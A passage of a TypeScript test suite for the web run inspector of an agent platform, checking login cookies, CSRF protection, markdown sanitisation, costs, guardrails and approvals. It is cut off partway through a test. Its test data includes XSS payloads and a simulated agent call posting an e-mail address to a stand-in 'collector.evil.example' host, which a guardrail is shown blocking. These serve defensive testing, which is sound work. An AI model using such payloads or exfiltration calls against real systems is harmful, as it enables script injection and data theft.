import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { mkdir, readFile } from 'node:fs/promises';
import { createRequire } from 'node:module';
import path from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { chromium, type Browser, type BrowserContext, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
// @ts-expect-error: a plain ES module script of the scheduler package (no declarations).
import { buildUi } from '../packages/scheduler/scripts/build-ui.mjs';
import { UiBundleMissing, uiBundle } from '../packages/scheduler/src/api/ui/ui-bundle.js';
import { createLogger } from '@agent-reach/shared';
import { FULL_KEY, LIMITED_KEY, TEST_MODELS, startApiHarness, type ApiHarness } from './helpers/api.js';
import { FILESYSTEM_SERVER, tempDir } from './helpers/mcp.js';
import { TEST_AGENTS } from './helpers/processes.js';
import { login } from './helpers/inspector.js';
import { testRedis, waitFor } from './helpers/redis.js';
import { addCommonScenarios } from './helpers/scenarios.js';
import { WORKFLOW_SCENARIOS, WORKFLOWS_FIXTURE } from './helpers/workflows.js';
import { generateWebhookSecret } from '@agent-reach/client';
import { startExecutor, type ExecutorProcess } from '@agent-reach/executor';
import { startLlmSim, type LlmSim } from '@agent-reach/llm-sim';
import { startScheduler, type SchedulerProcess } from '@agent-reach/scheduler';
import { loadConfig } from '@agent-reach/shared';
import testTools from './helpers/test-tools.js';
import { apiEnv, testEnv } from './helpers/runs.js';

const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
const HAVE_CHROMIUM = existsSync(CHROMIUM);
const SCREENSHOTS = path.resolve(import.meta.dirname, '..', 'test-results', 'screenshots');
const REASONING = 'Look up the weather first, then answer.';
/** A tool result written as markdown, with markup and links that must stay text. */
const MARKDOWN = [
  '# Restock report',
  '',
  'Stock is **low** in `WH-2`.',
  '',
  '- [the ledger](https://example.com/ledger)',
  '- [a trap](javascript:window.__xss=1)',
  '',
  '<img src=x onerror="window.__xss=1"><script>window.__xss=1</script>',
].join('\n');
/** A model answer with a link inside a sentence and a GitHub-style table (aligned columns, an escaped pipe). */
const LINKED_ANSWER = [
  'Stock is low: see [the ledger](https://example.com/ledger) for the figures of each warehouse.',
  '',
  '| Warehouse | Item | Stock |',
  '|:---|:---:|---:|',
  '| WH-2 | bolts \\| nuts | 3 |',
  '| WH-7 | **washers** | 12 |',
  '',
  'Order before Friday.',
].join('\n');
const AXE_SOURCE = readFile(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
/** The price of the markdown run's model, per million tokens: the only priced model. */
const PRICE = { input: 3, output: 15 };

/**
 * The test agents plus one that compacts its history early and one that asks a person for grants, two MCP
 * servers (one up, one whose command does not exist), and beside them a providers file pricing the
 * markdown run's model. Its one declared provider turns routing, and so prices, on; only the overview's
 * test asks it (its address refuses connections), to open its breaker.
 */
function inspectorAgentsFile(): string {
  const file = path.join(tempDir('inspector'), 'agents.yaml');
  const compacting = [
    '  - name: compacting',
    '    tools: [big_result]',
    '    loop: { compaction_threshold_tokens: 1000 }',
    '  - name: asking',
    '    tools: [granted_refund]',
    '    grant_by_approval: true',
    '  - name: guarded',
    '    tools: [http_post]',
    "    guardrails: { tool: [{ name: no_exfiltration, tools: ['http_*'], stage: arguments, pii: [email] }] }",
  ];
  // Two MCP servers for the overview: the reference filesystem server (up) and a command that does not exist.
  const servers = {
    default: {
      mcp_servers: [
        { name: 'fs', command: process.execPath, args: [FILESYSTEM_SERVER, path.dirname(file)] },
        { name: 'gone', command: 'agent-reach-no-such-command' },
      ],
    },
  };
  writeFileSync(
    file,
    `${readFileSync(TEST_AGENTS, 'utf8').trimEnd()}\n${compacting.join('\n')}\ntool_groups: ${JSON.stringify(servers)}\n`,
  );
  const providers = {
    providers: [
      // Asked once, by the overview's test only: a refused connection, no retry, a breaker that opens at once.
      {
        name: 'spare',
        base_url: 'http://127.0.0.1:9/v1',
        models: ['unused'],
        max_retries: 0,
        breaker: { failures: 1, reset_ms: 600_000 },
      },
    ],
    prices: { 'default/inspect-md': PRICE },
  };
  writeFileSync(path.join(path.dirname(file), 'providers.yaml'), JSON.stringify(providers));
  return file;
}

/** The API with the inspector, runs of every kind, and the session cookie of a login done with fetch. */
async function startInspector() {
  await (buildUi as () => Promise<void>)();
  const h = await startApiHarness(
    {
      allowedModels: [
        ...TEST_MODELS,
        'inspect',
        'inspect-md',
        'compacting',
        'asking',
        'spare/unused',
        'inspect-links',
        'guarded',
      ],
    },
    { WORKFLOWS_FILE: WORKFLOWS_FIXTURE, AGENTS_FILE: inspectorAgentsFile() },
  );
  addCommonScenarios(h.sim);
  for (const s of WORKFLOW_SCENARIOS) h.sim.addScenario(s);
  h.sim.addScenario({
    name: 'inspect',
    plan: [{ title: 'Look up the weather', tool: 'query_weather' }, 'Answer'],
    turns: [
      {
        reasoning: REASONING,
        tool_calls: [
          { name: 'no_such_tool', arguments: {} },
          { name: 'query_weather', arguments: { city: '杭州' } },
        ],
      },
      { content: 'It is {{ last.content.forecast.0.condition }} in Hangzhou.' },
    ],
  });
  h.sim.addScenario({
    name: 'inspect-md',
    turns: [
      {
        tool_calls: [
          { name: 'noop', arguments: { value: MARKDOWN } },
          { name: 'flaky', arguments: { key: 'inspector', failures: 1 } },
        ],
      },
      { content: '## Done\n\n- restock **WH-2**\n- check the ledger' },
    ],
  });
  h.sim.addScenario({
    name: 'inspect-links',
    turns: [{ content: LINKED_ANSWER }],
  });
  h.sim.addScenario({
    name: 'guarded',
    turns: [
      {
        tool_calls: [
          {
            name: 'http_post',
            arguments: { url: 'https://collector.evil.example', body: 'li.lei@example.com' },
          },
        ],
      },
      { content: 'not sent' },
    ],
  });
  h.sim.addScenario({
    name: 'asking',
    turns: [{ tool_calls: [{ name: 'granted_refund', arguments: {} }] }, { content: 'refunded' }],
  });
  // Rows enough that the history passes the agent's compaction threshold after a few turns.
  h.sim.addScenario({
    name: 'compacting',
    turns: [
      ...Array.from({ length: 5 }, (_, i) => ({
        tool_calls: [{ name: 'big_result', arguments: { items: 40 + i } }],
      })),
      { content: 'compacted' },
    ],
  });
  return h;
}

const finished = (h: ApiHarness, runId: string, status = ['succeeded', 'failed', 'not_converged']) =>
  waitFor(
    async () => {
      const run = (await h.call('GET', `/v1/runs/${runId}`)).json;
      return status.includes(run?.status) ? run : undefined;
    },
    20_000,
    `run ${runId} in ${status.join('|')}`,
  );

describe('run inspector sessions: a login is a cookie, and a write on it needs the inspector header', () => {
  let h: ApiHarness;
  beforeAll(async () => {
    h = await startInspector();
  });
  afterAll(async () => h?.close());

  it('serves the page and its bundle without a key, and its data only to a session or a key', async () => {
    const page = await fetch(`${h.url}/ui`);
    expect(page.status).toBe(200);
    expect(page.headers.get('content-security-policy')).toContain("script-src 'self'");
    expect(await page.text()).toContain('/ui/app.js');
    const bundle = await fetch(`${h.url}/ui/app.js`);
    expect(bundle.status).toBe(200);
    expect(bundle.headers.get('content-type')).toMatch(/javascript/);
    expect((await fetch(`${h.url}/ui/api/me`)).status).toBe(401);
    expect((await fetch(`${h.url}/v1/runs`, { headers: { cookie: 'ar_session=forged' } })).status).toBe(401);
    const wrong = await fetch(`${h.url}/ui/login`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ key: 'not-a-key-at-all' }),
    });
    expect(wrong.status).toBe(401);
    expect(wrong.headers.get('set-cookie')).toBeNull();
  });

  it('sets an httpOnly SameSite=Strict cookie that reads as its key, limits included, and refuses a write without the inspector header', async () => {
    const res = await fetch(`${h.url}/ui/login`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ key: LIMITED_KEY }),
    });
    const setCookie = res.headers.get('set-cookie') ?? '';
    expect(setCookie).toMatch(
      /^ar_session=[A-Za-z0-9_-]{43}; Path=\/; HttpOnly; SameSite=Strict; Max-Age=\d+$/,
    );
    expect(setCookie).not.toContain(LIMITED_KEY);
    const cookie = setCookie.split(';')[0]!;
    const me = await (await fetch(`${h.url}/ui/api/me`, { headers: { cookie } })).json();
    expect(me).toEqual({ name: 'weather-desk', agents: ['weather_only'] });
    const other = (
      await h.call('POST', '/v1/runs', { body: { agent: 'test_agent', input: 'x', model: 'approval' } })
    ).json.run_id as string;
    const forbidden = await fetch(`${h.url}/v1/runs/${other}`, { headers: { cookie } });
    expect(forbidden.status).toBe(403);

    const full = await login(h, FULL_KEY);
    const run = await finished(h, other, ['awaiting_approval']);
    const decide = (headers: Record<string, string>) =>
      fetch(`${h.url}/v1/runs/${other}/approvals`, {
        method: 'POST',
        headers: { cookie: full, 'content-type': 'application/json', ...headers },
        body: JSON.stringify({ tool_call_id: run.pending_approvals[0].tool_call_id, decision: 'reject' }),
      });
    const forged = await decide({});
    expect(forged.status).toBe(403);
    expect(((await forged.json()) as { error: { message: string } }).error.message).toMatch(
      /x-agent-reach-ui/,
    );
    expect((await decide({ 'x-agent-reach-ui': '1' })).status).toBe(200);

    const out = await fetch(`${h.url}/ui/logout`, {
      method: 'POST',
      headers: { cookie: full, 'x-agent-reach-ui': '1' },
    });
    expect(out.status).toBe(204);
    expect((await fetch(`${h.url}/ui/api/me`, { headers: { cookie: full } })).status).toBe(401);
  });

  it('refuses a cross-site logout without the inspector header and keeps the session', async () => {
    const cookie = await login(h, FULL_KEY);
    // What a form on another site can send: the browser's cookie, a simple content type, no custom header.
    const forged = await fetch(`${h.url}/ui/logout`, {
      method: 'POST',
      headers: {
        cookie,
        'content-type': 'text/plain',
        origin: 'https://evil.example',
      },
      body: '',
    });
    expect(forged.status).toBe(403);
    expect(forged.headers.get('set-cookie')).toBeNull();
    expect(((await forged.json()) as { error: { code: string; message: string } }).error).toEqual({
      code: 'FORBIDDEN',
      message: 'a request on an inspector session must send x-agent-reach-ui: 1',
    });
    expect((await fetch(`${h.url}/ui/api/me`, { headers: { cookie } })).status).toBe(200);
  });
});

describe("the inspector bundle, where `pnpm build` has not run (the README's two commands)", () => {
  /** A logger whose lines are kept, parsed. */
  const keptLogger = () => {
    const lines: Array<{ level: number; msg: string; err?: { message: string } }> = [];
    const logger = createLogger('ui', { level: 'info' }, { write: (l: string) => lines.push(JSON.parse(l)) });
    return { logger, lines };
  };

  it('builds a missing bundle from the sources on the first request, once for the requests that arrive together, and serves it after', async () => {
    const dir = pathToFileURL(`${tempDir('ui-bundle')}/`);
    const { logger, lines } = keptLogger();
    const bundle = uiBundle(logger, dir);
    const [js, css] = await Promise.all([bundle.read('app.js'), bundle.read('app.css')]);
    expect(js.toString()).toContain('/ui/api/overview');
    expect(css.toString()).toContain('.md-table');
    expect(lines.map((l) => l.msg)).toEqual([
      'inspector bundle missing: building it from the sources',
      'inspector bundle built',
    ]);
    expect(await bundle.read('app.js')).toBe(js);
    expect(existsSync(new URL('app.js', dir))).toBe(true);
  });

  it('answers a missing bundle it cannot build with a message naming the folder and the command, logged as such and not as Redis', async () => {
    const dir = pathToFileURL(`${tempDir('ui-bundle')}/`);
    const { logger, lines } = keptLogger();
    const bundle = uiBundle(logger, dir, () => Promise.reject(new Error("Cannot find package 'esbuild'")));
    const failed = await bundle.read('app.js').catch((e: unknown) => e);
    expect(failed).toBeInstanceOf(UiBundleMissing);
    expect((failed as Error).message).toContain(fileURLToPath(dir));
    expect((failed as Error).message).toMatch(/could not be built from the sources: run `pnpm build`/);
    const logged = lines.find((l) => l.level === 50);
    expect(logged).toMatchObject({
      msg: 'inspector bundle missing and could not be built',
      err: { message: "Cannot find package 'esbuild'" },
    });
    expect(JSON.stringify(lines)).not.toMatch(/Redis/);
  });
});

describe.skipIf(!HAVE_CHROMIUM)(
  `run inspector in headless Chromium${HAVE_CHROMIUM ? '' : ` (skipped: no Chromium at ${CHROMIUM}; apt-get install chromium, or set CHROMIUM_PATH)`}`,
  () => {
    let h: ApiHarness;
    let browser: Browser;
    let context: BrowserContext;
    let page: Page;
    // Runs the tests below share: the markdown run (its flaky call retried once) and a rejected call.
    let mdRunId = '';
    const TAG = `list-${Date.now()}`;
    const shot = (name: string, p: Page = page) =>
      p.screenshot({ path: path.join(SCREENSHOTS, `${name}.png`), fullPage: true });

    /** axe-core's WCAG 2.1 A and AA rules on the page as it stands: each violation's rule and elements. */
    async function accessibilityViolations(p: Page): Promise<Array<{ id: string; nodes: string[] }>> {
      // Evaluated through the DevTools protocol, which the page's script-src 'self' does not govern.
      if ((await p.evaluate('typeof window.axe')) === 'undefined') await p.evaluate(await AXE_SOURCE);
      const found = await p.evaluate(`axe
        .run(document, { runOnly: { type: 'tag', values: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa'] } })
        .then((r) => JSON.stringify(r.violations.map((v) => ({ id: v.id, nodes: v.nodes.map((n) => n.target.join(' ')).slice(0, 5) }))))`);
      return JSON.parse(found as string) as Array<{ id: string; nodes: string[] }>;
    }
    const expectAccessible = async (p: Page = page) => expect(await accessibilityViolations(p)).toEqual([]);

    /** The pairs of time-axis labels on the page whose boxes intersect, by their text. */
    const overlappingTicks = async (p: Page): Promise<string[]> =>
      JSON.parse(
        (await p.evaluate(`JSON.stringify([...document.querySelectorAll('.wf-axis .wf-track')].flatMap((axis) => {
          const boxes = [...axis.querySelectorAll('.wf-tick')].map((e) => [e.innerText, e.getBoundingClientRect()]);
          return boxes.flatMap(([a, r], i) => boxes.slice(i + 1)
            .filter(([, q]) => r.left < q.right && q.left < r.right && r.top < q.bottom && q.top < r.bottom)
            .map(([b]) => a + ' / ' + b));
        }))`)) as string,
      ) as string[];

    /** A context of its own at a size, signed in with the full key's session cookie. */
    async function signedIn(width: number, height: number): Promise<Page> {
      const ctx = await browser.newContext({
        viewport: { width, height },
        locale: 'en-US',
        timezoneId: 'UTC',
        permissions: ['clipboard-read', 'clipboard-write'],
      });
      const [name, value] = (await login(h, FULL_KEY)).split('=') as [string, string];
      await ctx.addCookies([{ name, value, url: h.url }]);
      const p = await ctx.newPage();
      p.setDefaultTimeout(10_000);
      return p;
    }

    const parkApproval = async (metadata: Record<string, string> = {}) => {
      const runId = (
        await h.call('POST', '/v1/runs', {
          body: { agent: 'test_agent', input: 'sensitive', model: 'approval', metadata },
        })
      ).json.run_id as string;
      await finished(h, runId, ['awaiting_approval']);
      return runId;
    };

    beforeAll(async () => {
      await mkdir(SCREENSHOTS, { recursive: true });
      h = await startInspector();
      browser = await chromium.launch({ executablePath: CHROMIUM, headless: true, args: ['--no-sandbox'] });
      context = await browser.newContext({
        viewport: { width: 1280, height: 800 },
        locale: 'en-US',
        timezoneId: 'UTC',
        permissions: ['clipboard-read', 'clipboard-write'],
      });
      page = await context.newPage();
      // A step that cannot happen fails on its own line instead of at the test's timeout.
      page.setDefaultTimeout(10_000);
    }, 60_000);
    afterAll(async () => {
      await browser?.close();
      await h?.close();
    });

    it('logs in with an API key kept only in an httpOnly session cookie, never in the page or a URL', async () => {
      await page.goto(`${h.url}/ui`);
      await page.getByLabel('API key').fill('wrong-key-123');
      await page.getByRole('button', { name: 'Sign in' }).click();
      await page.getByText('that is not a valid API key').waitFor();
      await expectAccessible();
      await shot('login');
      await page.getByLabel('API key').fill(FULL_KEY);
      await page.getByRole('button', { name: 'Sign in' }).click();
      await page.getByRole('heading', { name: /Runs/ }).waitFor();
      const cookies = await context.cookies();
      expect(cookies.map((c) => [c.name, c.httpOnly, c.sameSite])).toEqual([['ar_session', true, 'Strict']]);
      // Evaluated in the page (this file has no DOM types): the cookie is out of the page's reach.
      const stored = await page.evaluate(
        'JSON.stringify({ cookie: document.cookie, local: { ...localStorage }, session: { ...sessionStorage } })',
      );
      expect(JSON.parse(stored as string)).toEqual({ cookie: '', local: {}, session: {} });
      expect(page.url()).not.toContain(FULL_KEY);
    });

    it('opens a finished run: totals, a waterfall of turns and calls, each error with its kind, and a result exactly as the model saw it', async () => {
      const created = await h.call('POST', '/v1/runs', {
        body: {
          agent: 'test_agent',
          // Two tools named in sequence: a multi-step request, so the run asks for a plan (the task stack).
          input: 'Check the weather in Hangzhou, then the status of order ORD-123456',
          model: 'inspect',
          metadata: { user_id: 'ada', suite: TAG },
        },
      });
      const run = await finished(h, created.json.run_id);
      const weather = run.steps.find((s: { tool: string }) => s.tool === 'query_weather');
      await page.goto(`${h.url}/ui#/runs/${run.run_id}`);
      await page.getByText('Run finished:').waitFor();
      await page
        .getByText(/It is \S+ in Hangzhou\./)
        .first()
        .waitFor();
      const call = page.locator(`details[data-call="${weather.tool_call_id}"]`);
      await call.locator(':scope > summary').click();
      const result = call.locator('.code').filter({ hasText: 'Result (as the model saw it)' });
      await result.getByRole('button', { name: 'Raw view of Result (as the model saw it)' }).click();
      expect(JSON.parse(await result.locator('pre.raw').innerText())).toEqual(weather.result);
      const args = call.locator('.code').filter({ hasText: 'Arguments' });
      await args.getByRole('button', { name: /^Raw view/ }).click();
      expect(JSON.parse(await args.locator('pre.raw').innerText())).toEqual({ city: '杭州' });

      // The unknown tool: its kind in the closed row, in the errors box, and a red span in the waterfall.
      const unknown = run.steps.find((s: { tool: string }) => s.tool === 'no_such_tool');
      const local = page.locator(`details[data-call="${unknown.tool_call_id}"] > summary`);
      await expect.poll(() => local.innerText()).toMatch(/no_such_tool\s+error\s+local\s+unknown tool/);
      expect(await page.locator('.errors li').allInnerTexts()).toEqual([
        expect.stringMatching(/^no_such_tool\s+unknown tool\s+unknown_tool\s+\S/),
      ]);
      const spans = page.locator('.waterfall .wf-row:not(.wf-axis)');
      expect(await spans.locator('.wf-name').allInnerTexts()).toEqual([
        // Each turn named with the model that answered it.
        'Model turn 1 · default/inspect',
        'no_such_tool',
        'query_weather',
        'Model turn 2 · default/inspect',
      ]);
      expect(
        await page.locator(`.wf-row[data-call="${unknown.tool_call_id}"]`).getAttribute('data-span'),
      ).toBe('bad');
      const tile = (label: string) => page.locator('.tile').filter({ hasText: label }).locator('.tile-value');
      expect(await tile('Tool calls').innerText()).toBe('2');
      expect(await tile('Errors').innerText()).toBe('1');
      expect(await tile('Tokens').innerText()).toContain(String(run.usage.total_tokens));
      expect(await tile('Duration').innerText()).toMatch(/\d+(\.\d)? (ms|s)$/);
      // No cost figure in this run's record: no tile that would make one up.
      expect(await page.locator('.tile').filter({ hasText: 'Cost' }).count()).toBe(0);
      await expect
        .poll(() => page.locator('h1 .badge.mark').innerText())
        .toBe('with failed or refused calls');

      await page.getByText('Reasoning').click();
      await page.getByText(REASONING).waitFor();
      await expect.poll(() => page.locator('aside .stack li.done').count()).toBe(2);
      await expectAccessible();
      await shot('run');
    });

    it('renders a markdown result as a sanitised preview, retries as segments, with a raw view and a copy button', async () => {
      mdRunId = (
        await h.call('POST', '/v1/runs', {
          body: {
            agent: 'test_agent',
            input: 'Write the restock report',
            model: 'inspect-md',
            metadata: { suite: TAG },
          },
        })
      ).json.run_id as string;
      const run = await finished(h, mdRunId);
      const noop = run.steps.find((s: { tool: string }) => s.tool === 'noop');
      const flaky = run.steps.find((s: { tool: string }) => s.tool === 'flaky');
      expect(flaky.attempts).toBe(2);
      await page.goto(`${h.url}/ui#/runs/${mdRunId}`);
      // The page of the run before still says "Run finished:" until this run's record has loaded.
      await page.locator('h1', { hasText: mdRunId }).waitFor();
      await page.getByText('Run finished:').waitFor();

      const call = page.locator(`details[data-call="${noop.tool_call_id}"]`);
      await call.locator(':scope > summary').click();
      const result = call.locator('.code').filter({ hasText: 'Result (as the model saw it)' });
      const md = result.locator('.markdown');
      await expect.poll(() => md.locator('.md-h').innerText()).toBe('Restock report');
      expect(await md.locator('strong').innerText()).toBe('low');
      expect(await md.locator('code').innerText()).toBe('WH-2');
      const link = md.getByRole('link', { name: 'the ledger' });
      expect(await link.getAttribute('href')).toBe('https://example.com/ledger');
      expect(await link.getAttribute('rel')).toContain('noopener');
      // The javascript: link and the markup stay text: no link, no element, nothing ran.
      expect(await md.getByRole('link', { name: 'a trap' }).count()).toBe(0);
      expect(await page.locator('main a[href^="javascript"], main img, main script').count()).toBe(0);
      expect(await md.innerText()).toContain('<img src=x onerror="window.__xss=1">');
      expect(await page.evaluate('typeof window.__xss')).toBe('undefined');

      await result.getByRole('button', { name: 'Raw view of Result (as the model saw it)' }).click();
      expect(JSON.parse(await result.locator('pre.raw').innerText())).toEqual(noop.result);
      await result.getByRole('button', { name: 'Copy Result (as the model saw it)' }).click();
      await result.getByRole('status').getByText('Copied').waitFor();
      expect(JSON.parse((await page.evaluate('navigator.clipboard.readText()')) as string)).toEqual(
        noop.result,
      );

      // The flaky call ran twice: one bar in two segments placed by the attempts' recorded times (the
      // gap between them is the backoff), a retry in the totals and in its row.
      const log = flaky.attempt_log as Array<{ offset_ms: number; duration_ms: number; outcome: string }>;
      expect(log.map((t) => t.outcome)).toEqual(['transient', 'ok']);
      // The second try started after the tool's 100 ms backoff. Offsets are whole milliseconds, rounded,
      // and a Node timer's clock ticks in milliseconds: the gap can read 1 ms short of the backoff.
      expect(log[1]!.offset_ms).toBeGreaterThanOrEqual(log[0]!.offset_ms + log[0]!.duration_ms + 99);
      const segments = page.locator(`.wf-row[data-call="${flaky.tool_call_id}"] .wf-seg`);
      expect(await segments.count()).toBe(2);
      expect(await segments.evaluateAll((els) => els.map((e) => e.getAttribute('data-outcome')))).toEqual([
        'transient',
        'ok',
      ]);
      // Each segment starts where its attempt started in the call, to scale of the call's bar.
      const placed = await segments.evaluateAll((els) =>
        els.map((e) => {
          const bar = e.parentElement!.getBoundingClientRect();
          const seg = e.getBoundingClientRect();
          return { left: (seg.left - bar.left) / bar.width, width: bar.width };
        }),
      );
      for (const [i, t] of log.entries()) {
        expect(placed[i]!.left).toBeCloseTo(t.offset_ms / flaky.duration_ms, 1);
      }
      expect(
        await page.locator(`.wf-row[data-call="${flaky.tool_call_id}"] .wf-track`).getAttribute('aria-label'),
      ).toMatch(/2 attempts \(transient failure \S+ (ms|s), ok \S+ (ms|s)\)$/);
      const retries = page.locator('.tile').filter({ hasText: 'Retries' }).locator('.tile-value');
      expect(await retries.innerText()).toBe('1');
      expect(await page.locator(`details[data-call="${flaky.tool_call_id}"] > summary`).innerText()).toMatch(
        /2 attempts, 1 retry/,
      );
      // The model's markdown answer previewed too.
      expect(await page.locator('.box.answer .markdown li').allInnerTexts()).toEqual([
        'restock WH-2',
        'check the ledger',
      ]);
      await expectAccessible();
      await shot('run-markdown');
    });

    it("shows a priced run's cost in its totals, by the model that answered, and on each model turn", async () => {
      const run = await finished(h, mdRunId);
      const tokens = run.usage as { prompt_tokens: number; completion_tokens: number };
      const expected = (tokens.prompt_tokens * PRICE.input + tokens.completion_tokens * PRICE.output) / 1e6;
      expect(run.cost).toBeCloseTo(expected, 12);
      const money = (c: number) => String(Number(c.toPrecision(6)));
      await page.goto(`${h.url}/ui#/runs/${mdRunId}`);
      await page.getByText('Run finished:').waitFor();
      const tile = page.locator('.tile.cost');
      expect(await tile.locator('.tile-value').innerText()).toBe(money(run.cost));
      expect(await tile.locator('.by-model li').allInnerTexts()).toEqual([
        `default/inspect-md: ${money(run.cost)} (2 turns, ${tokens.prompt_tokens} in / ${tokens.completion_tokens} out)`,
      ]);
      // Each turn's own share, in the timeline and on its waterfall span; they add up to the run's cost.
      const turns = run.turns as Array<{ turn: number; cost: number }>;
      expect(turns).toHaveLength(2);
      expect(turns.reduce((n, t) => n + t.cost, 0)).toBeCloseTo(run.cost, 12);
      for (const t of turns) {
        await page
          .locator('.timeline .ev.turn')
          .filter({ hasText: `Model turn ${t.turn}` })
          .getByText(`cost ${money(t.cost)}`, { exact: false })
          .waitFor();
        expect(
          await page
            .locator('.waterfall .wf-row[data-span="turn"]')
            .nth(t.turn - 1)
            .locator('.wf-track')
            .getAttribute('aria-label'),
        ).toContain(`cost ${money(t.cost)}`);
      }
      await expectAccessible();
      await shot('run-cost');
    });

    it('marks each compaction on the waterfall at its time, between the call before it and the model turn after it', async () => {
      const runId = (
        await h.call('POST', '/v1/runs', {
          body: { agent: 'compacting', input: 'fetch the rows', model: 'compacting' },
        })
      ).json.run_id as string;
      const run = await finished(h, runId);
      expect(run.status).toBe('succeeded');
      const compactions = (await h.control.events(runId))
        .map((s) => s.event)
        .filter((e) => e.type === 'compaction');
      expect(compactions.length).toBeGreaterThan(0);
      await page.goto(`${h.url}/ui#/runs/${runId}`);
      await page.locator('h1', { hasText: runId }).waitFor();
      await page.getByText('Run finished:').waitFor();
      const rows = page.locator('.waterfall .wf-row:not(.wf-axis)');
      const marks = page.locator('.waterfall .wf-row[data-span="mark"]');
      expect(await marks.count()).toBe(compactions.length);
      for (const [i, c] of compactions.entries()) {
        if (c.type !== 'compaction') continue;
        const mark = marks.nth(i);
        expect(await mark.locator('.wf-name').innerText()).toBe('Compaction');
        expect(await mark.locator('.wf-track').getAttribute('aria-label')).toMatch(
          new RegExp(
            `^Compaction: instant at \\+\\S+ (ms|s), ${c.before_tokens} → ${c.after_tokens} tokens$`,
          ),
        );
      }
      // Where each mark stands among the spans: after a big_result call, before the next model turn,
      // and on the axis no earlier than that call's end and no later than that turn's start.
      const layout = (await rows.evaluateAll((els) =>
        els.map((e) => {
          const shape = e.querySelector('.wf-bar, .wf-mark')!.getBoundingClientRect();
          return {
            name: e.querySelector('.wf-name')!.textContent,
            span: e.getAttribute('data-span'),
            left: shape.left,
            right: shape.right,
            track: e.querySelector('.wf-track')!.getBoundingClientRect().width,
          };
        }),
      )) as Array<{ name: string; span: string; left: number; right: number; track: number }>;
      // Instants are whole milliseconds (an event's `at`, and a turn's rounded latency, measured on another
      // clock, subtracted from its `at`), so a mark and the turn it precedes may be drawn up to 3 ms apart
      // the wrong way: on a run of a few hundred ms that is several pixels, more than the 2 px of drawing
      // the checks allow for.
      const ats = (await h.control.events(runId)).map((s) => s.event.at);
      const runMs = Math.max(1, Math.max(...ats) - Math.min(...ats));
      const clockPx = (3 * (layout[0]?.track ?? 0)) / runMs;
      layout.forEach((row, i) => {
        if (row.span !== 'mark') return;
        const before = layout[i - 1]!;
        const after = layout[i + 1]!;
        // A turn's name ends with the model that answered it ("Model turn 4 · default/compacting").
        expect([before.name, after.name.replace(/^Model turn \d+ · .+$/, 'Model turn N')]).toEqual([
          'big_result',
          'Model turn N',
        ]);
        // A bar is drawn at least 0.4 % of the track wide: a call shorter than that ends somewhere inside
        // its bar, so a mark right after it may stand inside the bar too, though not before it starts.
        const minimal = before.right - before.left <= 0.004 * before.track + 0.5;
        // The mark's left edge is 1 px before its instant (it is 3 px wide, drawn from 1 px to the left).
        expect(row.left + 1 + 2, JSON.stringify(layout)).toBeGreaterThanOrEqual(
          (minimal ? before.left : before.right) - 2 - clockPx,
        );
        expect(row.left, JSON.stringify(layout)).toBeLessThanOrEqual(after.left + 2 + clockPx);
      });
      await expectAccessible();
      await shot('run-compaction');
    });

    it('shows a guardrail that blocked a call in the timeline: the guardrail, the tool, what it did and why', async () => {
      const created = await h.call('POST', '/v1/runs', {
        body: { agent: 'guarded', input: 'post the rates', model: 'guarded' },
      });
      const run = await finished(h, created.json.run_id);
      expect(run.steps[0]).toMatchObject({ tool: 'http_post', error_kind: 'guardrail' });
      await page.goto(`${h.url}/ui#/runs/${run.run_id}`);
      const row = page.locator('li.ev.bad').filter({ hasText: 'Guardrail no_exfiltration' });
      await row.waitFor();
      expect(await row.innerText()).toMatch(
        /tripped[\s\S]*blocked call[\s\S]*arguments of http_post[\s\S]*e-mail address l\*\*\*@example\.com/,
      );
      // The waterfall marks the trip at its time.
      const mark = page.locator('.wf-row').filter({ hasText: 'Guardrail no_exfiltration' });
      expect(await mark.locator('.wf-track').getAttribute('aria-label')).toMatch(
        /^Guardrail no_exfiltration: instant at \+.*, arguments of http_post: blocked call$/,
      );
      await expectAccessible();
      await shot('run-guardrail');
    });

    it('approves a parked call after a confirmation step, with a reason recorded and shown, and the run resumes live', async () => {
      const runId = await parkApproval();
      await page.goto(`${h.url}/ui#/approvals`);
      const inbox = page.locator('.approval').filter({ hasText: runId });
      await inbox.waitFor();
      await expectAccessible();
      await shot('approvals');
      await inbox.getByRole('link', { name: runId }).click();
      await page.getByRole('heading', { name: 'Waiting for a decision' }).waitFor();
      await expect.poll(() => page.locator('h1 .badge').first().innerText()).toBe('awaiting approval');
      await page.getByRole('button', { name: 'Approve needs_approval' }).click();
      // Nothing is decided until the confirmation.
      await page.getByRole('button', { name: 'Confirm approve' }).waitFor();
      expect((await h.call('GET', `/v1/runs/${runId}`)).json.status).toBe('awaiting_approval');
      await page.getByLabel(/^Reason/).fill('checked with the customer');
      await expectAccessible();
      await page.getByRole('button', { name: 'Confirm approve' }).click();
      // The same page, never reloaded: the event stream brings the decision and the rest of the run.
      await page.getByText(/Approved\s+needs_approval\s+by tester: checked with the customer/).waitFor();
      await page.getByText('Run finished:').waitFor();
      await expect.poll(() => page.locator('h1 .badge').first().innerText()).toBe('succeeded');
      expect((await h.call('GET', `/v1/runs/${runId}`)).json.status).toBe('succeeded');
      // The wait for the person is a span of the waterfall, from the request to the decision.
      const wait = page.locator('.waterfall .wf-row[data-span="wait"]');
      expect(await wait.locator('.wf-name').innerText()).toBe('Approval: needs_approval');
      expect(await wait.locator('.wf-track').getAttribute('aria-label')).toMatch(
        /^Approval: needs_approval: \S+ (ms|s|min \d+ s) at \+\S+ (ms|s), approved by tester$/,
      );
    });

    it('rejects a call from the keyboard alone: Tab to Reject, Enter, Escape backs out, the reason is sent with Enter', async () => {
      const runId = await parkApproval({ suite: TAG });
      await page.goto(`${h.url}/ui#/approvals`);
      const inbox = page.locator('.approval').filter({ hasText: runId });
      await inbox.getByRole('button', { name: 'Approve needs_approval' }).focus();
      await page.keyboard.press('Tab');
      const focused = () =>
        page.evaluate('document.activeElement.getAttribute("aria-label") ?? document.activeElement.id');
      expect(await focused()).toBe('Reject needs_approval');
      await page.keyboard.press('Enter');
      await expect.poll(focused).toMatch(/^reason-/);
      await page.keyboard.press('Escape');
